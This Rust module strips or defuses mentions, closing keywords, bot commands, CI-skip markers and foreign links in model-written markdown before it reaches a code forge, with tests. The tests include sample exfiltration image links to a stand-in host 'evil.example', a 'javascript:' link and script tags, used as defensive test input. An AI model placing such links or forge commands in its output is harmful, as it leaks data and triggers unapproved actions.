//! Our own words on a forge: they must not act on anybody.
//!
//! A model writes parts of what we publish, and a forge reads commands in it: mentions call people, `fixes #1` closes
//! an issue, a line with `/merge` is an order to a bot, `[skip ci]` in a commit message keeps checks from running, and
//! an image carries what its address says to whoever serves it. All of it is made inert here, and stays readable.
//! Code stays as it is. Doing it twice is the same as doing it once.

mod hosts;
mod html;
mod lines;
mod words;

pub use hosts::Hosts;
pub use lines::neutral_plain;

use super::clean::{clean, invisible};
use pulldown_cmark::{CodeBlockKind, Event, LinkType, Options, Parser, Tag, TagEnd};
use std::ops::Range;

/// A text is gone over until nothing changes any more, but no more often than this.
const MOST_PASSES: usize = 6;

/// Markdown that acts on nobody: no mention, no closing keyword, no command, no HTML but plain marks of structure, no
/// comment that cannot be seen, no link or image to other hosts.
///
/// ```
/// use codeforge::text::{Hosts, neutral};
/// let hosts = Hosts::of(&["forge.example"]);
/// assert_eq!(neutral("Thanks @ann, fixes #7", &hosts), "Thanks @&#8203;ann, fixes&#8203; #7");
/// assert_eq!(neutral("![x](https://evil.example/?d=1)", &hosts), "(image from `evil.example` removed)");
/// ```
pub fn neutral(markdown: &str, hosts: &Hosts) -> String {
    let mut text = invisible(&clean(markdown));
    for _ in 0..MOST_PASSES {
        let next = pass(&lines::raw(&text), hosts);
        if next == text {
            return text;
        }
        text = next;
    }
    // It keeps changing: somebody works at that. As code it does nothing.
    let longest = text.split(|c| c != '`').map(str::len).max().unwrap_or(0);
    let fence = "`".repeat(longest.max(2) + 1);
    format!("{fence}text\n{}\n{fence}\n", text.trim_end())
}

/// A stretch of plain text in the source.
struct Run {
    range: Range<usize>,
    content: String,
}

/// A link that is open: where it is, and where its text is.
struct Open {
    range: Range<usize>,
    inner: Option<Range<usize>>,
    foreign: Option<String>,
    auto: bool,
}

#[derive(Default)]
struct Pass {
    edits: Vec<(Range<usize>, String)>,
    run: Option<Run>,
    html: Option<Range<usize>>,
    links: Vec<Open>,
    images: usize,
}

fn pass(source: &str, hosts: &Hosts) -> String {
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    let events = Parser::new_ext(source, options).into_offset_iter();
    let mut pass = Pass::default();
    let definitions: Vec<Range<usize>> = events
        .reference_definitions()
        .iter()
        .filter(|(_, definition)| hosts.foreign(&definition.dest).is_some())
        .map(|(_, definition)| definition.span.clone())
        .collect();
    let mut in_code = false;
    for (event, range) in events {
        if !matches!(event, Event::Text(_)) {
            pass.end_run(source, hosts);
        }
        if !matches!(event, Event::Html(_)) {
            pass.end_html(source, hosts);
        }
        let opens = matches!(event, Event::Start(Tag::Link { .. }));
        let closes = matches!(event, Event::End(TagEnd::Link));
        if !closes {
            for link in &mut pass.links {
                let inner = link.inner.get_or_insert_with(|| range.clone());
                *inner = inner.start.min(range.start)..inner.end.max(range.end);
            }
        }
        match event {
            Event::Start(Tag::CodeBlock(kind)) => {
                in_code = true;
                if let CodeBlockKind::Fenced(info) = kind {
                    pass.fence(source, &range, &info);
                }
            }
            Event::End(TagEnd::CodeBlock) => in_code = false,
            Event::Text(_) if in_code => {}
            Event::Text(text) => pass.text(source, hosts, range, &text),
            Event::Html(_) => {
                let start = pass.html.as_ref().map_or(range.start, |html| html.start);
                pass.html = Some(start..range.end);
            }
            Event::InlineHtml(_) => {
                let given = source.get(range.clone()).unwrap_or_default();
                pass.replace(source, range, html::inert(given, hosts));
            }
            Event::Start(Tag::Image { dest_url, .. }) => {
                if pass.images == 0
                    && let Some(host) = hosts.foreign(&dest_url)
                {
                    pass.replace(source, range, format!("(image from `{host}` removed)"));
                }
                pass.images += 1;
            }
            Event::End(TagEnd::Image) => pass.images = pass.images.saturating_sub(1),
            Event::Start(Tag::Link { link_type, dest_url, .. }) if opens => {
                // `<a@b>` may be a mail address, or a mention in disguise.
                let mail = (link_type == LinkType::Email).then(|| "mailto:".to_owned());
                let auto = matches!(link_type, LinkType::Autolink | LinkType::Email);
                let foreign = mail.or_else(|| hosts.foreign(&dest_url));
                pass.links.push(Open { range, inner: None, foreign, auto });
            }
            Event::End(TagEnd::Link) => pass.end_link(source),
            _ => {}
        }
    }
    pass.end_run(source, hosts);
    pass.end_html(source, hosts);
    for range in definitions {
        pass.replace(source, range, String::new());
    }
    pass.apply(source)
}

impl Pass {
    fn replace(&mut self, source: &str, range: Range<usize>, with: String) {
        if source.get(range.clone()).is_some_and(|there| there != with) {
            self.edits.push((range, with));
        }
    }

    fn text(&mut self, source: &str, hosts: &Hosts, range: Range<usize>, content: &str) {
        // Our own separator stays, and ends what stands before it.
        if source.get(range.clone()) == Some(words::APART) {
            self.end_run(source, hosts);
            return;
        }
        if let Some(run) = &mut self.run {
            let between = source.get(run.range.end..range.start);
            if between.is_some_and(|between| between.bytes().all(|byte| byte == b'\\')) {
                run.content.push_str(content);
                run.range.end = range.end;
                return;
            }
        }
        self.end_run(source, hosts);
        self.run = Some(Run { range, content: content.to_owned() });
    }

    fn end_run(&mut self, source: &str, hosts: &Hosts) {
        let Some(run) = self.run.take() else { return };
        if self.links.iter().any(|link| link.auto) {
            return;
        }
        let given = source.get(run.range.clone()).unwrap_or_default();
        let line = source.get(..run.range.start).unwrap_or_default().rsplit('\n').next().unwrap_or_default();
        let place = words::Place {
            first: line.chars().all(|c| c.is_whitespace() || c == '>'),
            apart: source.get(run.range.end..).is_some_and(|rest| rest.starts_with(words::APART)),
            hosts,
        };
        if given == run.content {
            self.replace(source, run.range, words::inert(given, &place));
        } else {
            // Written with escapes or entities: what it says counts, not how.
            let said = words::inert(&invisible(&run.content), &place);
            if said != run.content {
                self.replace(source, run.range, words::escaped(&said));
            }
        }
    }

    fn end_html(&mut self, source: &str, hosts: &Hosts) {
        let Some(range) = self.html.take() else { return };
        let given = source.get(range.clone()).unwrap_or_default();
        self.replace(source, range, html::inert(given, hosts));
    }

    fn end_link(&mut self, source: &str) {
        let Some(link) = self.links.pop() else { return };
        let Some(host) = link.foreign else { return };
        let removed = format!("(link to `{host}` removed)");
        match link.inner {
            Some(inner) if !link.auto => {
                self.replace(source, link.range.start..inner.start, String::new());
                self.replace(source, inner.end..link.range.end, format!(" {removed}"));
            }
            _ => self.replace(source, link.range, removed),
        }
    }

    /// A block that a forge would offer to commit is plain code.
    fn fence(&mut self, source: &str, range: &Range<usize>, info: &str) {
        if !info.trim_start().to_lowercase().starts_with("suggestion") {
            return;
        }
        let block = source.get(range.clone()).unwrap_or_default();
        let first = block.split('\n').next().unwrap_or_default();
        let fence = first.len() - first.trim_start_matches(['`', '~']).len();
        self.replace(source, range.start + fence..range.start + first.len(), "text".to_owned());
    }

    fn apply(mut self, source: &str) -> String {
        // An outer edit (an image within a link) holds the inner ones.
        self.edits.sort_by_key(|(range, _)| (range.start, std::cmp::Reverse(range.end)));
        let mut out = String::with_capacity(source.len() + 64);
        let mut done = 0;
        for (range, with) in self.edits {
            if range.start < done {
                continue;
            }
            out.push_str(source.get(done..range.start).unwrap_or_default());
            out.push_str(&with);
            done = range.end;
        }
        out.push_str(source.get(done..).unwrap_or_default());
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn hosts() -> Hosts {
        Hosts::of(&["forge.example"])
    }

    #[test]
    fn nothing_in_our_text_acts() {
        let cases = [
            // Mentions.
            ("Thanks @ann and @acme/core.", "Thanks @&#8203;ann and @&#8203;acme/core."),
            ("mail a@b.example", "mail a@b.example"),
            ("`@ann` and\n\n```\n@bob\n```", "`@ann` and\n\n```\n@bob\n```"),
            (r"\@ann", r"\@&#8203;ann"),
            ("&#64;ann", "@&#8203;ann"),
            ("**hi**@ann", "**hi**@&#8203;ann"),
            // Closing keywords.
            ("Fixes #1, closes: acme/x#2", "Fixes&#8203; #1, closes&#8203;: acme/x#2"),
            ("resolves https://forge.example/a/b/issues/1", "resolves&#8203; https://forge.example/a/b/issues/1"),
            ("fixes **#1**", "fixes&#8203; **#1**"),
            ("This fixes the parser. See #1.", "This fixes the parser. See #1."),
            // Commands.
            ("/merge\ntext\n/approve now", "\\/merge\ntext\n\\/approve now"),
            ("> /lgtm", "> \\/lgtm"),
            ("see src/text and /etc/passwd", "see src/text and /etc/passwd"),
            ("bors r+", "b&#8203;ors r+"),
            ("[skip ci] done [CI Skip]", "(skip ci) done (CI Skip)"),
            ("Signed-off-by: Ann", "Signed-off-by - Ann"),
            ("BREAKING CHANGE: x", "breaking change: x"),
            // Images and links.
            ("![a](https://evil.example/?d=key)", "(image from `evil.example` removed)"),
            ("![a][x]\n\n[x]: https://evil.example/k", "(image from `evil.example` removed)\n\n"),
            ("<img src=\"https://evil.example/k\">", "&lt;img src=\"(link to `evil.example` removed)\">"),
            ("[here](https://evil.example/?d=key)", "here (link to `evil.example` removed)"),
            ("[here](https://forge.example/a)", "[here](https://forge.example/a)"),
            ("[a](#b) [c](docs/d.md)", "[a](#b) [c](docs/d.md)"),
            ("<https://evil.example/key>", "(link to `evil.example` removed)"),
            ("see https://evil.example/?d=key now", "see (link to `evil.example` removed) now"),
            ("https&#58;//evil.example/key", "(link to \\`evil.example\\` removed)"),
            ("www.evil.example/key", "(link to `www.evil.example` removed)"),
            ("https://forge.example@evil.example/key", "(link to `evil.example` removed)"),
            ("https://forge.example/a_b?c=@d#e", "https://forge.example/a_b?c=@d#e"),
            ("x <a@ann>", "x (link to `mailto:` removed)"),
            ("[x](javascript:alert(1))", "x (link to `javascript:` removed)"),
            ("[x](//evil.example/k)", "x (link to `evil.example` removed)"),
            (
                "[![a](https://evil.example/1)](https://evil.example/2)",
                "(image from `evil.example` removed) (link to `evil.example` removed)",
            ),
            // HTML.
            (
                "<details><summary>More @ann</summary>\n\ntext\n\n</details>",
                "<details><summary>More @&#8203;ann</summary>\n\ntext\n\n</details>",
            ),
            ("a <!-- codeforge:key --> b", "a  b"),
            ("<script>x</script>", "&lt;script>x&lt;/script>"),
            // Code that a forge would offer to commit.
            ("```suggestion\nx\n```", "```text\nx\n```"),
            // What cannot be seen.
            ("a\u{202e}b\u{200b}c", "abc"),
            ("a&#x202e;b", "ab"),
        ];
        for (given, inert) in cases {
            assert_eq!(neutral(given, &hosts()), inert, "{given:?}");
        }
    }

    #[test]
    fn markdown_behind_a_tag_that_is_taken_away_is_seen() {
        let hidden = "<div>\n![x](https://evil.example/k) @ann\n</div>";
        let inert = neutral(hidden, &hosts());
        assert!(!inert.contains("](https") && inert.contains("@&#8203;ann"), "{inert}");
    }

    proptest! {
        #[test]
        fn once_is_enough_and_nothing_is_left(parts in prop::collection::vec(prop_oneof![
            Just("@ann"), Just("fixes"), Just("#1"), Just("/merge"), Just("\n"), Just("`"), Just("```\n"), Just("["),
            Just("]("), Just(")"), Just("!["), Just("https://evil.example/k"), Just("<img src="), Just(">"), Just("\\"),
            Just("&#64;"), Just("**"), Just(" "), Just("> "), Just("<!--"), Just("-->"), Just("text"), Just("[skip ci]")
        ], 0..14)) {
            let inert = neutral(&parts.concat(), &hosts());
            prop_assert_eq!(neutral(&inert, &hosts()), inert.clone(), "of {:?}", parts.concat());
            prop_assert!(!inert.to_lowercase().contains("[skip ci]"));
            // Outside of code, as the parser sees it, there is no way out.
            let mut code = false;
            for event in Parser::new(&inert) {
                match event {
                    Event::Start(Tag::CodeBlock(_)) => code = true,
                    Event::End(TagEnd::CodeBlock) => code = false,
                    Event::Start(Tag::Image { dest_url, .. } | Tag::Link { dest_url, .. }) => {
                        prop_assert!(hosts().foreign(&dest_url).is_none(), "{}", inert);
                    }
                    Event::Text(text) if !code => prop_assert!(!text.contains("@ann"), "{}", inert),
                    Event::Html(html) | Event::InlineHtml(html) => prop_assert!(!html.contains("img"), "{}", inert),
                    _ => {}
                }
            }
        }
    }
}
